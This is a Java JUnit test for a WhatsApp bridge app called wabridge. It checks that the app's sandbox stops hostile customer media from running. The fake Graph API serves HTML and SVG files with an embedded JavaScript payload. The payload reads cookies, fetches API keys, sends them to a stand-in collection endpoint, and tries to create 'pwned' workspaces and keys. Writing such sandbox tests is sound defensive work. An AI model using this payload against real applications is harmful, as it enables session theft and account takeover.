package dev.wabridge.browser;

import static org.assertj.core.api.Assertions.assertThat;

import dev.wabridge.testing.FakeServer;
import dev.wabridge.testing.FakeServer.Request;
import dev.wabridge.testing.FakeServer.Response;
import dev.wabridge.testing.NodeScripts;
import dev.wabridge.testing.TestApp;
import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Runs every browser spec in {@code src/test/browser/specs} (Playwright driving Debian's headless Chromium)
 * against a real wabridge with the sandbox on. Screenshots land in {@code target/screenshots}. System property
 * {@code wabridge.test.browser}: {@code true} (CI: Chromium and Node must be there), {@code auto} (skip with a
 * message when they are not), {@code false}.
 *
 * <p>Meta's Graph API is a hostile fake ({@link #hostileGraph}): a customer's "media" is a web page or an SVG whose
 * script tries to read the session and call the API, reporting to the fake's {@code /collect}. After the specs, no
 * report may have arrived and no workspace or key the payload tried to create may exist.
 */
class BrowserSpecsTest {
  private static final Path DIR = Path.of("src/test/browser");
  private static TestApp app;
  private static FakeServer graph;

  @BeforeAll
  static void start() throws Exception {
    String mode = System.getProperty("wabridge.test.browser", "auto");
    boolean chromium = new File(System.getProperty("wabridge.chromium", "/usr/bin/chromium")).canExecute();
    boolean node = NodeScripts.nodeAvailable(DIR);
    if (!chromium || !node || mode.equals("false")) {
      String why = mode.equals("false") ? "wabridge.test.browser=false"
          : "missing " + (!chromium ? "/usr/bin/chromium (apt-get install chromium) " : "") + (!node ? "node" : "");
      if (mode.equals("true")) {
        throw new IllegalStateException("browser tests are required here but " + why);
      }
      Assumptions.abort("browser tests SKIPPED: " + why);
    }
    if (!Files.isDirectory(DIR.resolve("node_modules/playwright-core"))) {
      NodeScripts.Result install = NodeScripts.run(List.of("npm", "install", "--no-audit", "--no-fund"), DIR, 300,
          Map.of());
      assertThat(install.exitCode()).as("npm install in src/test/browser:\n" + install.output()).isZero();
    }
    graph = new FakeServer(BrowserSpecsTest::hostileGraph);
    app = new TestApp(new TestApp.Setup(false, graph.url(), java.time.InstantSource.system(),
        Map.of("WABRIDGE_SANDBOX", "true")));
  }

  @AfterAll
  static void stop() {
    if (app != null) {
      app.close();
    }
    if (graph != null) {
      graph.close();
    }
  }

  @TestFactory
  Stream<DynamicTest> specs() throws IOException {
    try (Stream<Path> files = Files.list(DIR.resolve("specs"))) {
      List<Path> specs = files.filter(p -> p.toString().endsWith(".mjs")).sorted().toList();
      Stream<DynamicTest> each = specs.stream().map(spec -> DynamicTest.dynamicTest(spec.getFileName().toString(),
          () -> {
            NodeScripts.Result r = NodeScripts.run(List.of("node", DIR.relativize(spec).toString()), DIR, 180,
                Map.of("WABRIDGE_URL", app.url(), "WABRIDGE_ADMIN_KEY", TestApp.ADMIN_KEY, "HOSTILE_GRAPH",
                    graph.url(), "SCREENSHOT_DIR", Path.of("target/screenshots").toAbsolutePath().toString()));
            assertThat(r.exitCode()).as(spec + " output:\n" + r.output()).isZero();
          }));
      return Stream.concat(each, Stream.of(DynamicTest.dynamicTest("no hostile media ran", () -> {
        assertThat(graph.requests().stream().filter(r -> r.path().startsWith("/collect")).toList())
            .as("reports from a hostile payload").isEmpty();
        int pwned = app.app().database().jdbi().withHandle(h -> h.createQuery("SELECT (SELECT COUNT(*) FROM "
            + "workspaces WHERE name LIKE 'pwned%') + (SELECT COUNT(*) FROM api_keys WHERE name LIKE 'pwned%')")
            .mapTo(Integer.class).one());
        assertThat(pwned).as("workspaces and keys a hostile payload created").isZero();
      })));
    }
  }

  /** What a hostile page or SVG does when it runs: reads the session, calls the API, reports to the fake. */
  static String payload(String collect) {
    return """
        (async () => {
          const report = (what) => { new Image().src = '%1$s?' + what; };
          report('ran&origin=' + encodeURIComponent(location.origin) + '&cookie=' + encodeURIComponent(document.cookie));
          try {
            const r = await fetch('/api/keys', { credentials: 'include' });
            report('keys=' + r.status + '&body=' + encodeURIComponent((await r.text()).slice(0, 300)));
          } catch (e) { report('keys-failed'); }
          try {
            await fetch('/api/workspaces', { method: 'POST', credentials: 'include',
              headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'pwned' }) });
            await fetch('/api/keys', { method: 'POST', credentials: 'include',
              headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'pwned' }) });
          } catch (e) { report('write-failed'); }
          try { localStorage.setItem('pwned', '1'); } catch (e) { /* an opaque origin has no storage */ }
        })();
        """.formatted(collect);
  }

  static Response hostileGraph(Request r) {
    String collect = graph.url() + "/collect";
    String html = "<!doctype html><html><body><h1>invoice</h1><script>" + payload(collect) + "</script></body></html>";
    String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"40\"><rect width=\"40\" "
        + "height=\"40\"/><script>" + payload(collect).replace("&", "&amp;").replace("<", "&lt;") + "</script></svg>";
    String path = r.path();
    if (path.startsWith("/collect")) {
      return new Response(204, null, null);
    }
    if (path.equals("/hits")) {
      long n = graph.requests().stream().filter(q -> q.path().startsWith("/collect")).count();
      return Response.json(200, "{\"hits\":" + n + "}");
    }
    if (path.equals("/payload.html") || path.startsWith("/lookaside/html")) {
      return new Response(200, "text/html", html.getBytes(StandardCharsets.UTF_8));
    }
    if (path.equals("/payload.svg") || path.startsWith("/lookaside/svg")) {
      return new Response(200, "image/svg+xml", svg.getBytes(StandardCharsets.UTF_8));
    }
    if (r.method().equals("GET")) {
      String id = path.substring(path.lastIndexOf('/') + 1);
      return Response.json(200, "{\"messaging_product\":\"whatsapp\",\"url\":\"" + graph.url() + "/lookaside/"
          + id + "\",\"mime_type\":\"application/octet-stream\",\"id\":\"" + id + "\"}");
    }
    return Response.json(200, "{\"messaging_product\":\"whatsapp\",\"messages\":[{\"id\":\"wamid.B"
        + System.nanoTime() + "\"}]}");
  }
}
